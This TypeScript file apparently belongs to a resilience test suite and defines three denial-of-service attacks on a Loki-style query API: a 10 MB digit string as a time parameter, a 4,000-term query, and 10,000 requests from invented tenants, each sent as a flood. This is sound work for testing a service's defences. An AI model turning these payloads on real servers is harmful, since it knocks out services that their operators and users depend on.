import type { Attack } from './attacker.ts';

const form = { 'content-type': 'application/x-www-form-urlencoded' };
const floodMs = 10_000;

export const queryAttacks: readonly Attack[] = [
  {
    name: 'digits of a time',
    about: 'A7: start= of 10 MB of digits',
    run: (attacker) => {
      const body = `query=%7Bapp%3D%22x%22%7D&start=${'1'.repeat(10_000_000)}`;
      return attacker.flood(3, floodMs, () =>
        attacker.send('/loki/api/v1/query_range', { method: 'POST', headers: form, body }),
      );
    },
  },
  {
    name: 'leaves',
    about: 'A7: a query of 4,000 leaves',
    run: (attacker) => {
      const leaf = 'rate({a="b"}[1m])';
      const query = Array.from({ length: 4_000 }, () => leaf).join('+');
      const body = `query=${encodeURIComponent(query)}`;
      return attacker.flood(3, floodMs, () =>
        attacker.send('/loki/api/v1/query_range', { method: 'POST', headers: form, body }),
      );
    },
  },
  {
    name: 'invented tenants',
    about: 'A7: requests of tenants that send nothing',
    async run(attacker) {
      for (let batch = 0; batch < 200; batch++) {
        await Promise.all(
          Array.from({ length: 50 }, (_, i) =>
            attacker.send('/loki/api/v1/labels', { tenant: `invented-${batch * 50 + i}` }),
          ),
        );
      }
    },
  },
];
